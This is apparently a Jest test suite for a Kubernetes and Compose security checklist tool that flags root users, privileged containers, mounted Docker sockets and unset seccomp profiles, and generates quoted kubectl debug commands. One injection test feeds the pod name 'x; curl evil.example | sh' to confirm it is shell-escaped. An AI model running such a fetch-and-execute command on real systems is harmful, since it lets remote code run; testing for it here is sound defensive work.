import type { Finding } from 'hardened-workloads/audit';
import { evaluateWorkload, resolveAudit } from 'hardened-workloads/audit';
import type {
  AnswerTo,
  HostAccessFacts,
  QuestionId,
  UserFacts,
  WorkloadChecklist,
} from 'hardened-workloads/checklist';
import {
  CHECKLIST_QUESTIONS,
  answerChecklist,
  answerChecklists,
  findAnswer,
} from 'hardened-workloads/checklist';
import type { Workload } from 'hardened-workloads/audit';
import { ALL_RULES } from 'hardened-workloads/rules';
import {
  INSECURE_POD,
  NOW,
  SEED_DEPLOYMENT,
  composeWorkload,
  hardenedDeployment,
  onlyWorkload,
  JUSTIFICATIONS_ANNOTATION,
} from './fixtures';

function answer<Id extends QuestionId>(checklist: WorkloadChecklist, id: Id): AnswerTo<Id> {
  const found = findAnswer(checklist, id);
  if (found === undefined) throw new Error(`no answer ${id}`);
  return found;
}

const statuses = (checklist: WorkloadChecklist) =>
  Object.fromEntries(checklist.answers.map((a) => [a.id, a.status]));

const netBindExemption = {
  kind: 'capability',
  capability: 'NET_BIND_SERVICE',
  justification: {
    reason: 'binds port 80 for the legacy load balancer health check',
    ticket: 'SEC-123',
    expires: '2026-12-31',
  },
} as const;

// As user 10001 under allowPrivilegeEscalation: false the add-back only reaches the bounding set.
const noOpNetBind = hardenedDeployment(
  { containers: [{ name: 'worker', exemptions: [netBindExemption] }] },
  'worker',
);

// Root, so that the add-back takes effect.
const justifiedNetBind = hardenedDeployment(
  {
    containers: [
      {
        name: 'worker',
        exemptions: [
          {
            kind: 'runAsRoot',
            justification: {
              reason: 'the legacy proxy needs NET_BIND_SERVICE in effect, which only root gets',
            },
          },
          {
            kind: 'capability',
            capability: 'NET_BIND_SERVICE',
            justification: {
              reason: 'binds port 80 for the legacy load balancer health check',
              ticket: 'SEC-123',
              expires: '2026-12-31',
            },
          },
        ],
      },
    ],
  },
  'worker',
);

describe('answerChecklist', () => {
  test('answers the eight questions in the seed order', () => {
    const checklist = answerChecklist(onlyWorkload(SEED_DEPLOYMENT), { now: NOW });
    expect(checklist.answers.map((a) => a.question)).toEqual(CHECKLIST_QUESTIONS.map((q) => q.question));
    expect(checklist).toMatchObject({ kind: 'Deployment', name: 'api', file: 'manifests/app.yaml', line: 1 });
  });

  test('a Deployment rendered with the default posture is "default" on every question', () => {
    const checklist = answerChecklist(
      onlyWorkload(
        hardenedDeployment({
          containers: [
            { name: 'api', writablePaths: [{ path: '/tmp', medium: 'Memory', sizeLimit: '64Mi' }] },
          ],
        }),
      ),
      { now: NOW },
    );
    expect(statuses(checklist)).toEqual(
      Object.fromEntries(CHECKLIST_QUESTIONS.map((q) => [q.id, 'default'])),
    );
    expect(checklist.status).toBe('default');
    expect(checklist.answers.flatMap((a) => a.uncovered)).toEqual([]);
    expect(answer(checklist, 'user').answer).toBe(
      'Container "api": UID 10001, GID 10001, runAsNonRoot. Volumes are group-owned by GID 10001 (fsGroup).',
    );
    expect(answer(checklist, 'writable-paths').answer).toBe(
      'Container "api": only /tmp (tmpfs in memory, up to 64Mi); the root filesystem is read-only.',
    );
    expect(answer(checklist, 'capabilities').answer).toBe('Container "api": none (drop: [ALL]).');
    expect(answer(checklist, 'seccomp').answer).toMatch(/^Container "api": yes: RuntimeDefault/);
    expect(answer(checklist, 'runtime-socket').answer).toMatch(/^No:/);
    expect(answer(checklist, 'host-access').answer).toMatch(/^No:/);
  });

  test("the seed's Kubernetes example: UID 10001, and an unset seccomp profile is called Unconfined", () => {
    const checklist = answerChecklist(onlyWorkload(SEED_DEPLOYMENT), { now: NOW });
    const user = answer(checklist, 'user');
    expect(user.status).toBe('default');
    expect(user.facts).toMatchObject({
      containers: [
        {
          container: 'api',
          group: 'containers',
          uid: 10001,
          uidFrom: 'pod',
          gid: 10001,
          gidFrom: 'pod',
          runAsNonRoot: true,
          userName: null,
        },
      ],
      fsGroup: 10001,
      userNamespace: false,
    } satisfies Partial<UserFacts>);
    const seccomp = answer(checklist, 'seccomp');
    expect(seccomp.status).toBe('violation');
    expect(seccomp.answer).toContain('no seccomp profile is set, which Kubernetes runs as Unconfined');
    expect(seccomp.facts.containers[0]).toMatchObject({
      type: null,
      from: 'unset',
      runtimeDefault: false,
    });
    expect(seccomp.findings.map((f) => f.rule)).toContain('seccomp-profile-restricted');
    expect(checklist.status).toBe('violation');
    // Everything else in the seed's example matches the posture.
    expect(statuses(checklist)).toMatchObject({
      'writable-paths': 'default',
      capabilities: 'default',
      'privilege-escalation': 'default',
      'runtime-socket': 'default',
      'host-access': 'default',
    });
  });

  test('an insecure pod: root, privileged, the Docker socket and the host network are violations', () => {
    const checklist = answerChecklist(onlyWorkload(INSECURE_POD), { now: NOW });
    expect(statuses(checklist)).toEqual({
      user: 'violation',
      'writable-paths': 'violation',
      capabilities: 'violation',
      'privilege-escalation': 'violation',
      seccomp: 'violation',
      'runtime-socket': 'violation',
      'host-access': 'violation',
      debugging: 'default',
    });
    expect(answer(checklist, 'user').answer).toContain('UID 0 (root)');
    expect(answer(checklist, 'writable-paths').answer).toContain(
      'everything: the root filesystem is writable',
    );
    expect(answer(checklist, 'capabilities').answer).toBe(
      'Container "builder": all of them: the container is privileged.',
    );
    expect(answer(checklist, 'capabilities').facts.containers[0]?.remaining).toContain('SYS_ADMIN');
    expect(answer(checklist, 'privilege-escalation').answer).toContain(
      'a privileged container can always escalate',
    );
    expect(answer(checklist, 'runtime-socket').answer).toContain(
      '/var/run/docker.sock, mounted by "builder"',
    );
    expect(answer(checklist, 'runtime-socket').facts.mounts).toEqual([
      {
        container: 'builder',
        volume: 'docker',
        hostPath: '/var/run/docker.sock',
        socket: '/var/run/docker.sock',
        mountPath: '/var/run/docker.sock',
        readOnly: false,
      },
    ]);
    // The socket volume's findings answer question 6, not question 2.
    expect(answer(checklist, 'runtime-socket').findings.map((f) => f.rule)).toEqual(
      expect.arrayContaining(['restricted-volumes', 'no-container-runtime-socket']),
    );
    expect(answer(checklist, 'writable-paths').findings.map((f) => f.rule)).not.toContain(
      'restricted-volumes',
    );
    const host = answer(checklist, 'host-access');
    expect(host.answer).toBe(`Yes: it shares the host's network namespace; privileged mode for "builder".`);
    expect(host.facts).toMatchObject({
      hostNetwork: true,
      hostPID: false,
      privileged: ['builder'],
    } satisfies Partial<HostAccessFacts>);
    expect(host.findings.map((f) => f.rule)).toEqual(
      expect.arrayContaining(['host-namespaces', 'privileged']),
    );
  });

  test('a justified NET_BIND_SERVICE add-back on a root container shows its reason and ticket', () => {
    const checklist = answerChecklist(onlyWorkload(justifiedNetBind), { now: NOW });
    const capabilities = answer(checklist, 'capabilities');
    expect(capabilities.status).toBe('justified');
    expect(capabilities.answer).toBe(
      'Container "worker": only NET_BIND_SERVICE in the bounding set (drop: [ALL], then added back); the process runs as root: NET_BIND_SERVICE is in effect.',
    );
    expect(capabilities.facts.containers[0]).toMatchObject({
      effective: ['NET_BIND_SERVICE'],
      boundingOnly: [],
      noOpAddBacks: [],
    });
    expect(capabilities.justifications).toEqual([
      {
        exemption: 'capability',
        container: 'worker',
        subject: 'NET_BIND_SERVICE',
        reason: 'binds port 80 for the legacy load balancer health check',
        ticket: 'SEC-123',
        expires: '2026-12-31',
      },
    ]);
    expect(checklist.status).toBe('justified');
  });

  test('an approved add-back that is a no-op (user 10001, no-new-privileges) is flagged: nothing usable, an error', () => {
    const checklist = answerChecklist(onlyWorkload(noOpNetBind), { now: NOW });
    const capabilities = answer(checklist, 'capabilities');
    expect(capabilities.status).toBe('violation');
    expect(capabilities.facts.containers[0]).toMatchObject({
      user: 'non-root',
      runtime: 'containerd',
      effective: [],
      boundingOnly: ['NET_BIND_SERVICE'],
      noOpAddBacks: ['NET_BIND_SERVICE'],
    });
    expect(capabilities.answer).toBe(
      'Container "worker": only NET_BIND_SERVICE in the bounding set (drop: [ALL], then added back); the process can use none: ' +
        'NET_BIND_SERVICE sits only in the bounding set (a non-root process under no-new-privileges, and containerd and CRI-O set no ambient capabilities), so the add-back is a no-op.',
    );
    expect(capabilities.findings.map((f) => [f.rule, f.status, f.severity])).toEqual([
      ['capabilities-justified', 'justified', 'error'],
      ['capability-add-back-ineffective', 'violation', 'error'],
    ]);
  });

  test('the same add-back turns into a violation once its justification has expired', () => {
    const checklist = answerChecklist(onlyWorkload(justifiedNetBind), {
      now: new Date('2027-01-02T00:00:00Z'),
    });
    expect(answer(checklist, 'capabilities').status).toBe('violation');
    expect(answer(checklist, 'capabilities').justifications).toEqual([]);
  });

  test('a justified Unconfined seccomp profile is refused in production and accepted elsewhere', () => {
    const record = {
      exemption: 'seccompUnconfined',
      container: 'api',
      reason: 'profiling the legacy runtime needs perf_event_open in the staging cluster',
      approvedBy: 'platform-security',
    };
    const doc = structuredClone(SEED_DEPLOYMENT) as typeof SEED_DEPLOYMENT & {
      metadata: { annotations?: Record<string, string> };
    };
    doc.metadata.annotations = { [JUSTIFICATIONS_ANNOTATION]: JSON.stringify([record]) };
    const container = doc.spec.template.spec.containers[0];
    if (container === undefined) throw new Error('fixture');
    Object.assign(container.securityContext, { seccompProfile: { type: 'Unconfined' } });
    // Parsed once per environment: src/audit/evaluate.ts caches a record's validity per record, not per audit.
    const production = answer(answerChecklist(onlyWorkload(doc), { now: NOW }), 'seccomp');
    expect(production.status).toBe('violation');
    expect(production.answer).toBe('Container "api": no: seccomp is disabled (Unconfined).');
    const staging = answer(
      answerChecklist(onlyWorkload(doc), { now: NOW, environment: 'non-production' }),
      'seccomp',
    );
    expect(staging.status).toBe('justified');
    expect(staging.justifications).toEqual([record]);
  });

  test('an add-back without any justification is a violation', () => {
    const doc = structuredClone(SEED_DEPLOYMENT);
    const container = doc.spec.template.spec.containers[0];
    if (container === undefined) throw new Error('fixture');
    (container.securityContext.capabilities as { add?: string[] }).add = ['NET_BIND_SERVICE'];
    const capabilities = answer(answerChecklist(onlyWorkload(doc), { now: NOW }), 'capabilities');
    expect(capabilities.status).toBe('violation');
    expect(capabilities.findings.map((f) => [f.rule, f.status, f.severity])).toEqual([
      ['capabilities-justified', 'violation', 'error'],
      ['capability-add-back-ineffective', 'violation', 'warning'],
    ]);
  });

  test('init containers are answered like the app containers, and are not debug targets once exited', () => {
    const doc = hardenedDeployment({ initContainers: [{ name: 'migrate' }], containers: [{ name: 'api' }] });
    const template = (
      doc as {
        spec: { template: { spec: { initContainers: { securityContext: Record<string, unknown> }[] } } };
      }
    ).spec.template.spec;
    const migrate = template.initContainers[0];
    if (migrate === undefined) throw new Error('fixture');
    migrate.securityContext = { ...migrate.securityContext, readOnlyRootFilesystem: false };
    const checklist = answerChecklist(onlyWorkload(doc), { now: NOW });
    const writable = answer(checklist, 'writable-paths');
    expect(writable.answer).toBe(
      'Init container "migrate": everything: the root filesystem is writable (readOnlyRootFilesystem is not true). ' +
        'Container "api": nothing: the root filesystem is read-only and no writable volume is mounted.',
    );
    expect(writable.status).toBe('violation');
    expect(writable.findings.map((f) => [f.rule, f.container])).toEqual([
      ['read-only-root-filesystem', 'migrate'],
    ]);
    expect(answer(checklist, 'user').answer).toBe(
      'Containers "migrate", "api": UID 10001, GID 10001, runAsNonRoot. Volumes are group-owned by GID 10001 (fsGroup).',
    );
    const debugging = answer(checklist, 'debugging').facts;
    expect(debugging.commands.map((c) => c.container)).toEqual(['api']);
    expect(debugging.notes.join('\n')).toContain('Init containers "migrate" have exited');
  });

  test('a StatefulSet mounts its volumeClaimTemplates as persistent volumes', () => {
    const checklist = answerChecklist(
      onlyWorkload({
        apiVersion: 'apps/v1',
        kind: 'StatefulSet',
        metadata: { name: 'db' },
        spec: {
          template: {
            spec: {
              containers: [
                {
                  name: 'db',
                  securityContext: { readOnlyRootFilesystem: true },
                  volumeMounts: [
                    { name: 'data', mountPath: '/var/lib/db' },
                    { name: 'config', mountPath: '/etc/db' },
                  ],
                },
              ],
              volumes: [{ name: 'config', configMap: { name: 'db' } }],
            },
          },
          volumeClaimTemplates: [{ metadata: { name: 'data' } }],
        },
      }),
      { now: NOW },
    );
    const writable = answer(checklist, 'writable-paths');
    expect(writable.answer).toBe(
      'Container "db": only /var/lib/db (persistent volume from the claim template "data"); the root filesystem is read-only.',
    );
    expect(writable.facts.containers[0]?.mounts).toEqual([
      { mountPath: '/var/lib/db', volume: 'data', source: { type: 'volumeClaimTemplate' }, writable: true },
      { mountPath: '/etc/db', volume: 'config', source: { type: 'configMap' }, writable: false },
    ]);
    expect(writable.status).toBe('default');
  });

  test('a Compose service speaks Docker: default seccomp profile, no-new-privileges, tmpfs and binds', () => {
    const workload = composeWorkload(
      'api',
      {
        securityContext: {
          runAsUser: 10001,
          runAsGroup: 10001,
          runAsNonRoot: true,
          readOnlyRootFilesystem: true,
          allowPrivilegeEscalation: false,
          capabilities: { drop: ['ALL'] },
        },
        volumeMounts: [
          { name: 'tmpfs-0', mountPath: '/tmp' },
          { name: 'bind-0', mountPath: '/data' },
        ],
      },
      {
        volumes: [
          { name: 'tmpfs-0', emptyDir: { medium: 'Memory' } },
          { name: 'bind-0', hostPath: { path: './data' } },
        ],
      },
    );
    const checklist = answerChecklist(workload, { now: NOW });
    expect(checklist.dialect).toBe('compose');
    expect(answer(checklist, 'seccomp')).toMatchObject({
      status: 'default',
      answer: `Container "api": yes: Docker's default seccomp profile.`,
    });
    expect(answer(checklist, 'privilege-escalation').answer).toBe(
      'Container "api": no: no-new-privileges:true (setuid binaries cannot raise privileges).',
    );
    const writable = answer(checklist, 'writable-paths');
    expect(writable.answer).toBe(
      'Container "api": only /tmp (tmpfs in memory, no size limit), /data (host path ./data); the root filesystem is read-only.',
    );
    // A bind mount is a host path: the posture declares none.
    expect(writable.status).toBe('violation');
    const debugging = answer(checklist, 'debugging').facts;
    expect(debugging.commands).toEqual([
      {
        container: 'api',
        command:
          'target=$(docker compose -f compose.yaml ps -q api) && docker run --rm -it --pid=container:$target ' +
          '--network=container:$target --cap-drop ALL --security-opt no-new-privileges:true --user 10001:10001 busybox',
      },
    ]);
  });

  test('a Compose service without no-new-privileges may escalate', () => {
    const workload = composeWorkload('api', {
      securityContext: {
        runAsUser: 10001,
        runAsGroup: 10001,
        runAsNonRoot: true,
        readOnlyRootFilesystem: true,
        allowPrivilegeEscalation: true,
        capabilities: { drop: ['ALL'] },
      },
    });
    const escalation = answer(answerChecklist(workload, { now: NOW }), 'privilege-escalation');
    expect(escalation.status).toBe('violation');
    expect(escalation.answer).toContain('security_opt lacks no-new-privileges:true');
  });
});

describe('debug commands', () => {
  test('a Pod is targeted by name, a Deployment through a pod of its own', () => {
    const pod = answer(answerChecklist(onlyWorkload(INSECURE_POD), { now: NOW }), 'debugging').facts;
    expect(pod.commands).toEqual([
      {
        container: 'builder',
        command: 'kubectl debug -it -n ci pod/builder --image=busybox --target=builder --profile=restricted',
      },
    ]);
    // No pod-level non-root user: busybox would run as root and be refused.
    expect(pod.notes.join('\n')).toContain('--custom=debug-user.json');
    const deployment = answer(
      answerChecklist(onlyWorkload(SEED_DEPLOYMENT), { now: NOW }),
      'debugging',
    ).facts;
    expect(deployment.commands[0]?.command).toBe(
      `kubectl debug -it "$(kubectl get pods -o name | grep -E -m1 '^pod/api-[a-z0-9]{1,10}-[a-z0-9]{5}$')" --image=busybox --target=api --profile=restricted`,
    );
    expect(deployment.notes.join('\n')).toContain("inherits the pod's runAsUser 10001");
    expect(deployment.notes.join('\n')).toContain('Do not use kubectl debug node/');
  });

  test('names from the manifest cannot inject shell commands', () => {
    const hostile = onlyWorkload({
      kind: 'Pod',
      metadata: { name: 'x; curl evil.example | sh', namespace: '$(id)' },
      spec: { containers: [{ name: "a' b" }] },
    });
    expect(answer(answerChecklist(hostile, { now: NOW }), 'debugging').facts.commands[0]?.command).toBe(
      `kubectl debug -it -n '$(id)' 'pod/x; curl evil.example | sh' --image=busybox --target='a'\\'' b' --profile=restricted`,
    );
  });

  test('a Windows pod is pointed at a Windows debug image', () => {
    const windows = onlyWorkload({
      kind: 'Pod',
      metadata: { name: 'win' },
      spec: { os: { name: 'windows' }, containers: [{ name: 'app' }] },
    });
    const notes = answer(answerChecklist(windows, { now: NOW }), 'debugging').facts.notes.join('\n');
    expect(notes).toContain('This is a Windows pod: use a Windows debug image');
    expect(notes).not.toContain('--custom');
  });

  test('a Pod named by generateName is found by its prefix', () => {
    const generated = onlyWorkload({
      kind: 'Pod',
      metadata: { generateName: 'job-runner-' },
      spec: { containers: [{ name: 'run' }] },
    });
    expect(answer(answerChecklist(generated, { now: NOW }), 'debugging').facts.commands[0]?.command).toBe(
      `kubectl debug -it "$(kubectl get pods -o name | grep -E -m1 '^pod/job-runner-[a-z0-9]+$')" --image=busybox --target=run --profile=restricted`,
    );
  });

  test('the grep pattern matches the pods a Deployment creates and no other workload', () => {
    const command = answer(answerChecklist(onlyWorkload(SEED_DEPLOYMENT), { now: NOW }), 'debugging').facts
      .commands[0]?.command;
    const pattern = /'(\^pod\/[^']+)'/.exec(command ?? '')?.[1];
    if (pattern === undefined) throw new Error('no pattern');
    const regex = new RegExp(pattern);
    expect(regex.test('pod/api-7d9f8b6c5-x2x7q')).toBe(true);
    expect(regex.test('pod/api-gateway-7d9f8b6c5-x2x7q')).toBe(false);
  });
});

describe('agreement with the audit', () => {
  const workloads: Workload[] = [
    onlyWorkload(SEED_DEPLOYMENT),
    onlyWorkload(INSECURE_POD),
    onlyWorkload(justifiedNetBind),
    onlyWorkload(hardenedDeployment({ containers: [{ name: 'api' }] })),
  ];

  test('every audit finding is reported once per question it answers, or among the other findings', () => {
    const audit = resolveAudit({ level: 'hardened', now: NOW });
    for (const [index, checklist] of answerChecklists(workloads, { now: NOW }).entries()) {
      const workload = workloads[index];
      if (workload === undefined) throw new Error('index');
      const expected = evaluateWorkload(workload, audit).map(key).sort();
      const reported = new Set<string>([
        ...checklist.answers.flatMap((a) => a.findings.map(key)),
        ...checklist.otherFindings.map(key),
      ]);
      expect([...reported].sort()).toEqual(expected);
    }
  });

  test('a question is a violation exactly when the audit reports an unjustified error about it', () => {
    for (const checklist of answerChecklists(workloads, { now: NOW })) {
      for (const a of checklist.answers) {
        const open = a.findings.some((f) => f.severity === 'error' && f.status !== 'justified');
        expect({ id: a.id, violation: a.status === 'violation' }).toEqual({ id: a.id, violation: open });
        // No deviation the facts show is left without an audit finding.
        expect(a.uncovered).toEqual([]);
      }
    }
  });

  test('a deviation no active rule reports still makes the answer a violation', () => {
    // Without the seccomp rules the audit is silent about an unset profile; the checklist is not.
    const rules = ALL_RULES.filter((rule) => !rule.id.startsWith('seccomp-'));
    const seccomp = answer(answerChecklist(onlyWorkload(SEED_DEPLOYMENT), { now: NOW, rules }), 'seccomp');
    expect(seccomp.findings).toEqual([]);
    expect(seccomp.uncovered).toEqual([{ container: 'api', message: '"api": seccomp unset (Unconfined)' }]);
    expect(seccomp.status).toBe('violation');
  });
});

function key(f: Finding): string {
  return `${f.rule}|${f.container ?? ''}|${f.path}|${f.status}`;
}
